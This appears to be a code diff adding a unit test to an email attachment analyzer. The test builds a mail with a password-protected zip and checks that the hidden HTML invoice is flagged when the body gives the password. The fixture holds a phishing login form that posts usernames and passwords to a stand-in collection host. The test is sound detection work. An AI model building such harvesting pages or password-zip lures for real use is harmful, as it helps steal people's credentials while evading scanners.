@@ -271,6 +271,31 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
+    void aLoginPageInsideAPasswordZipIsFoundOnceThePasswordTheMessageGivesOpensIt() throws Exception {
+        // PPAP: the page is in an AES zip; the body gives its password. Without it nothing can be read.
+        byte[] zip = EncryptedFiles.zip("Seikyu-2025", true, "invoice.html", ("<html><body><form action="
+                + "'https://collect.example.net/p'><input name=u><input type=password name=p></form></body></html>")
+                .getBytes(StandardCharsets.UTF_8));
+        for (String body : List.of("Invoice attached.\r\nPassword: Seikyu-2025", "Invoice attached.")) {
+            String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+                    + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n" + body
+                    + "\r\n--b\r\nContent-Type: application/zip; name=\"Invoice.zip\"\r\n"
+                    + "Content-Disposition: attachment; filename=\"Invoice.zip\"\r\n"
+                    + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(zip) + "\r\n--b--\r\n";
+            try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
+                List<Finding> findings = analyzer.analyze(new AnalysisInput(ENVELOPE, parsed));
+                if (body.contains("Password")) {
+                    assertThat(findings).containsExactly(Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
+                            Finding.of("HTML_ATTACHMENT_FORM",
+                                    "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
+                } else {
+                    assertThat(findings).isEmpty();
+                }
+            }
+        }
+    }
+
+    @Test
     void aLoginPageInARarStoredOrCompressedIsAFormNamedByItsPathInTheArchive() throws Exception {
         byte[] page = ("<html><body><form action='https://collect.example.net/p'>"
                 + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8);
